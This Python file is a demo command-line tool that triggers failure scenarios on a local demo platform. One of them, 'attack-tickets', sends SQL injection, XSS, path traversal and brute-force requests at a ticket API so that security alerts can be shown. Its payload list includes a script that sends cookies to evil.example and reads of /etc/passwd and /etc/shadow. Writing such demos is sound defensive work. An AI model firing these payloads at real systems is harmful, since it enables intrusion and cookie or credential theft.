"""Make things go wrong on purpose: the demo's scenarios, triggered from the command line.

    python -m demo scenario drain-energy       # the energy pool drops under 20 %
    python -m demo scenario slow-api           # the platform's health check takes over 1 s
    python -m demo scenario fail-transactions  # half of the new transactions fail
    python -m demo scenario fail-partner       # most of Acme Energy's transactions fail:
                                               # its own webhook endpoint is told
    python -m demo scenario attack-tickets     # SQL injection, XSS, path traversal and
                                               # brute-force requests at the ticket API
    python -m demo scenario recover            # everything back to normal
    python -m demo status                      # scenarios on, energy pool, transactions

The first four talk to the running demo platform's control endpoint;
``attack-tickets`` sends its requests to the ticket API itself.  Addresses come
from the flags, else from the environment (``DEMO_PLATFORM_URL``,
``DEMO_TICKETING_URL``, ``DEMO_PARTNER_KEY``), else from the ``stack.json`` that
``./dev run`` writes into its run directory (``./run`` unless ``--run-dir``).
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import requests

PLATFORM_SCENARIOS = ("drain-energy", "slow-api", "fail-transactions", "fail-partner", "recover")
ALL_SCENARIOS = (*PLATFORM_SCENARIOS[:-1], "attack-tickets", "recover")
DEFAULT_PLATFORM_URL = "http://127.0.0.1:8081"
DEFAULT_TICKETING_URL = "http://127.0.0.1:8000"
API = "/api/v1"


@dataclass
class Targets:
    platform_url: str
    ticketing_url: str
    partner_key: str | None


def read_stack_file(run_dir: Path) -> dict[str, Any]:
    try:
        return json.loads((run_dir / "stack.json").read_text())
    except (FileNotFoundError, ValueError):
        return {}


def resolve_targets(args: argparse.Namespace) -> Targets:
    stack = read_stack_file(Path(args.run_dir))
    urls = stack.get("urls", {})
    return Targets(
        platform_url=(
            args.platform_url
            or os.environ.get("DEMO_PLATFORM_URL")
            or urls.get("platform")
            or DEFAULT_PLATFORM_URL
        ).rstrip("/"),
        ticketing_url=(
            args.ticketing_url
            or os.environ.get("DEMO_TICKETING_URL")
            or urls.get("ticketing")
            or DEFAULT_TICKETING_URL
        ).rstrip("/"),
        partner_key=(
            args.api_key
            or os.environ.get("DEMO_PARTNER_KEY")
            or stack.get("keys", {}).get("partner")
        ),
    )


def set_platform_scenario(platform_url: str, name: str) -> dict:
    """Switch a scenario on the running demo platform; returns its new state."""
    response = requests.post(
        f"{platform_url}/control/scenario", json={"scenario": name}, timeout=10
    )
    if response.status_code != 200:
        raise RuntimeError(f"the demo platform refused {name}: {response.text}")
    return response.json()


def platform_status(platform_url: str) -> dict:
    response = requests.get(f"{platform_url}/control/state", timeout=10)
    response.raise_for_status()
    return response.json()


# ----------------------------------------------------------------- attack-tickets


@dataclass
class AttackRequest:
    kind: str  # brute-force | sql-injection | xss | path-traversal
    method: str
    path: str
    json: Any = None
    authenticated: bool = True  # with the partner's key; else with a made-up one


def attack_requests(brute_force: int = 12) -> list[AttackRequest]:
    """The requests ``attack-tickets`` sends, in order (paths relative to the service root).

    The injection attempts come first, with the partner's key; the brute force
    (unknown keys) last, since it gets the caller's address rate-limited.
    """
    sqli = ["' OR '1'='1", "1; DROP TABLE tickets--", "0 UNION SELECT key_hash FROM api_keys--"]
    reqs = [AttackRequest("sql-injection", "GET", f"{API}/tickets?status={quote(p)}") for p in sqli]
    reqs.append(
        AttackRequest(
            "sql-injection",
            "POST",
            f"{API}/tickets",
            json={
                "title": "Invoice' OR 1=1; --",
                "description": "x' UNION SELECT password FROM staff --",
            },
        )
    )
    reqs.append(
        AttackRequest(
            "xss",
            "POST",
            f"{API}/tickets",
            json={
                "title": "<script>alert(document.cookie)</script>",
                "description": "<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
            },
        )
    )
    reqs.append(
        AttackRequest("xss", "GET", f"{API}/tickets?q={quote('<script>alert(1)</script>')}")
    )
    reqs += [
        AttackRequest("path-traversal", "GET", f"{API}/tickets/..%2F..%2F..%2Fetc%2Fpasswd"),
        AttackRequest(
            "path-traversal", "GET", f"{API}/tickets?file={quote('../../../../etc/passwd')}"
        ),
        AttackRequest(
            "path-traversal",
            "GET",
            f"{API}/tickets/1/attachments/{quote('../../../etc/shadow', safe='')}",
        ),
    ]
    reqs += [
        AttackRequest("brute-force", "GET", f"{API}/tickets", authenticated=False)
        for _ in range(brute_force)
    ]
    return reqs


def attack_tickets(
    ticketing_url: str,
    partner_key: str | None,
    echo: Callable[[str], None] = print,
    brute_force: int = 12,
) -> dict[str, dict[int, int]]:
    """Send the attack; return ``{kind: {status: count}}``.

    Every answer is fine: it is an attack.
    """
    results: dict[str, dict[int, int]] = {}
    with requests.Session() as session:
        for req in attack_requests(brute_force):
            headers = {}
            if not req.authenticated:
                headers["X-API-Key"] = f"pw_{secrets.token_hex(6)}_{secrets.token_urlsafe(32)}"
            elif partner_key:
                headers["X-API-Key"] = partner_key
            response = session.request(
                req.method, ticketing_url + req.path, json=req.json, headers=headers, timeout=10
            )
            counts = results.setdefault(req.kind, {})
            counts[response.status_code] = counts.get(response.status_code, 0) + 1
    for kind, counts in results.items():
        answers = ", ".join(f"{n}x {status}" for status, n in sorted(counts.items()))
        echo(f"  {kind:15} {sum(counts.values()):3} requests: {answers}")
    return results


# --------------------------------------------------------------------------- CLI


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m demo", description=__doc__.split("\n")[0])
    sub = parser.add_subparsers(dest="command", required=True)
    scenario = sub.add_parser("scenario", help="trigger a scenario")
    scenario.add_argument("name", choices=ALL_SCENARIOS)
    status = sub.add_parser("status", help="show the demo platform's state")
    for p in (scenario, status):
        p.add_argument(
            "--run-dir",
            default=os.environ.get("DEMO_RUN_DIR", "run"),
            help="the stack's run directory, to find its addresses (default ./run)",
        )
        p.add_argument("--platform-url", help=f"demo platform (default {DEFAULT_PLATFORM_URL})")
        p.add_argument("--ticketing-url", help=f"ticket service (default {DEFAULT_TICKETING_URL})")
        p.add_argument("--api-key", help="a partner API key for attack-tickets")
    args = parser.parse_args(argv)
    targets = resolve_targets(args)

    try:
        if args.command == "status":
            print(json.dumps(platform_status(targets.platform_url), indent=2))
            return 0
        if args.name == "attack-tickets":
            print(f"attacking the ticket API at {targets.ticketing_url}")
            attack_tickets(targets.ticketing_url, targets.partner_key)
            print(
                "the security team's notifications (suspicious patterns, failed logins) follow "
                "within seconds; Prometheus counts the events in security_events_total"
            )
            return 0
        state = set_platform_scenario(targets.platform_url, args.name)
        active = ", ".join(state["scenarios"]["active"]) or "none"
        print(f"{args.name}: done; scenarios on now: {active}")
        return 0
    except requests.RequestException as exc:
        print(
            f"cannot reach the stack ({exc.__class__.__name__}): is ./dev run running? "
            f"(platform {targets.platform_url}, ticketing {targets.ticketing_url})",
            file=sys.stderr,
        )
        return 1
    except RuntimeError as exc:
        print(str(exc), file=sys.stderr)
        return 1
